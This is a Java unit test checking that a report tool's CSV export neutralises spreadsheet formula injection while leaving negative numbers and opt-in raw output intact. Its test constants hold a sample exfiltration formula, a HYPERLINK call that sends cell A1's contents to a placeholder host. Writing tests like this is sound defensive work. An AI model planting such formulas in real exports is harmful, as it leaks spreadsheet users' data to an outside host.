package org.framelab.report;

import org.framelab.features.FeatureTable;
import org.framelab.features.SparseVector;
import org.framelab.report.ReportData.EvidenceRow;
import org.framelab.util.CsvCells;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/** CSV formula injection (OWASP): text that a spreadsheet would run is neutralised, numbers are not, --raw-csv keeps all. */
class CsvInjectionTest {
    static final String FORMULA = StableWorkbookTest.FORMULA;
    static final String NEUTRALISED = "\"'=HYPERLINK(\"\"http://x?leak=\"\"&A1,\"\"click\"\")\"";
    static final String RAW = "\"=HYPERLINK(\"\"http://x?leak=\"\"&A1,\"\"click\"\")\"";

    @Test
    void riskyTextIsPrefixedAndQuotedNumbersAreNot() {
        assertThat(CsvCells.field("=1+2", false)).isEqualTo("\"'=1+2\"");
        assertThat(CsvCells.field("+cmd", false)).isEqualTo("\"'+cmd\"");
        assertThat(CsvCells.field("-cmd", false)).isEqualTo("\"'-cmd\"");
        assertThat(CsvCells.field("@SUM(A1)", false)).isEqualTo("\"'@SUM(A1)\"");
        assertThat(CsvCells.field("\tx", false)).isEqualTo("\"'\tx\"");
        assertThat(CsvCells.field("\rx", false)).isEqualTo("\"'\rx\"");
        assertThat(CsvCells.field("-1.5", false)).isEqualTo("-1.5");
        assertThat(CsvCells.field("-2.5E-7", false)).isEqualTo("-2.5E-7");
        assertThat(CsvCells.field("+3", false)).isEqualTo("+3");
        assertThat(CsvCells.field("a=b", false)).isEqualTo("a=b");
        assertThat(CsvCells.field("x, y", false)).isEqualTo("\"x, y\"");
        assertThat(CsvCells.field(FORMULA, false)).isEqualTo(NEUTRALISED);
        assertThat(CsvCells.field(FORMULA, true)).isEqualTo(RAW);
        assertThat(CsvCells.field("=1+2", true)).isEqualTo("=1+2");
    }

    @Test
    void reportTablesNeutraliseTextAndKeepNegativeNumbers(@TempDir Path dir) throws Exception {
        CsvTables.write(injected(), dir.resolve("safe"));
        String evidence = Files.readString(dir.resolve("safe/evidence.csv"));
        String articles = Files.readString(dir.resolve("safe/articles.csv"));
        assertThat(evidence).contains(NEUTRALISED).contains("\"'@group\"").doesNotContain("," + RAW);
        assertThat(articles).contains("x1," + NEUTRALISED + ",2020-01-01,\"'-left\",-1.5");
        assertThat(Files.readString(dir.resolve("safe/groups.csv"))).contains(",-1.5,");
    }

    @Test
    void rawKeepsTheTextAsItIs(@TempDir Path dir) throws Exception {
        CsvTables.write(injected(), dir.resolve("raw"), true);
        assertThat(Files.readString(dir.resolve("raw/evidence.csv"))).contains("," + RAW + ",").contains(",@group,");
        assertThat(Files.readString(dir.resolve("raw/articles.csv"))).contains("x1," + RAW + ",2020-01-01,-left,-1.5");
    }

    /** The sample report plus an article whose outlet and label, and an evidence span whose text, are formula-like. */
    static ReportData injected() {
        ReportData b = ReportFixtures.sample(null, false);
        FeatureTable t = b.table();
        List<FeatureTable.Row> rows = new ArrayList<>(t.rows());
        rows.add(0, new FeatureTable.Row("x1", FORMULA, LocalDate.of(2020, 1, 1), Map.of("leaning", "-left"),
                new SparseVector(new int[]{0}, new double[]{-1.5})));
        List<ReportData.GroupRow> groups = new ArrayList<>(b.groups());
        groups.add(new ReportData.GroupRow("f", "leaning", "g", 3, -1.5, 1, 1, 1, 1, 1, 1));
        List<EvidenceRow> ev = List.of(new EvidenceRow("f", "hedge", "x1", "@group", 1, 2, FORMULA, "context"));
        return new ReportData(b.study(), b.overview(), new FeatureTable(t.columns(), rows), b.columns(), groups, b.tests(),
                b.terms(), ev, b.monthly(), b.model(), b.agreement(), b.charts(), b.nativeCharts());
    }
}
